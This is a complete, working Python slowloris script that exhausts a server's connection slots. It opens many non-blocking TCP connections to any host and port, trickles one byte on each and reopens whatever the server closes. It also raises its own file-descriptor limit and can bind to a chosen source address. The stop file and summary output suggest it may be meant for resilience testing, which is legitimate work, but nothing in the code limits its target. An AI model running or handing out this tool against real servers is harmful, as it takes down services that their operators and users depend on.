#!/usr/bin/env python3
"""slowloris.py — holds many connections to a port open by trickling one byte now and
then, reconnecting whatever the server closes (a connection-exhaustion attack).

usage: slowloris.py HOST PORT COUNT STOP_FILE [--every SECONDS] [--source ADDR] [--byte B]
  Opens COUNT non-blocking connections (from ADDR when given, e.g. 127.0.0.2), sends one
  byte on each every SECONDS (default 3), reopens any the server closed, until
  STOP_FILE exists. Prints one summary line: connections opened, closed by the server.
  Raises its own file-descriptor limit as far as the hard limit allows."""
import errno
import os
import resource
import select
import socket
import sys
import time


def main():
    args = sys.argv[1:]
    host, port, count, stop = args[0], int(args[1]), int(args[2]), args[3]
    every, source, byte = 3.0, None, b"T"
    rest = args[4:]
    while rest:
        k, v = rest[0], rest[1]
        rest = rest[2:]
        if k == "--every":
            every = float(v)
        elif k == "--source":
            source = v
        elif k == "--byte":
            byte = v.encode()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = count + 64
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(want, hard), hard))
    opened = closed = 0
    socks = []

    def dial():
        nonlocal opened
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        if source:
            s.bind((source, 0))
        s.connect_ex((host, port))
        opened += 1
        return s

    for _ in range(count):
        try:
            socks.append(dial())
        except OSError:
            break
    next_send = time.time() + every
    while not os.path.exists(stop):
        # notice connections the server closed (readable with EOF / reset) and reopen them
        poller = select.poll()
        by_fd = {}
        for s in socks:
            poller.register(s, select.POLLIN)
            by_fd[s.fileno()] = s
        for fd, _ in poller.poll(200):
            s = by_fd[fd]
            try:
                data = s.recv(4096)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if data:
                continue  # a challenge or an error reply: keep trickling
            socks.remove(s)
            s.close()
            closed += 1
            try:
                socks.append(dial())
            except OSError:
                pass
        if time.time() >= next_send:
            next_send = time.time() + every
            for s in list(socks):
                try:
                    s.send(byte)
                except (BlockingIOError, InterruptedError):
                    pass
                except OSError as e:
                    if e.errno in (errno.ENOTCONN, errno.EINPROGRESS, errno.EALREADY):
                        continue  # still connecting (the server's backlog is full)
                    socks.remove(s)
                    s.close()
                    closed += 1
                    try:
                        socks.append(dial())
                    except OSError:
                        pass
    for s in socks:
        s.close()
    print(f"slowloris: {opened} connections opened, {closed} closed by the server, {len(socks)} held at the end")


if __name__ == "__main__":
    main()
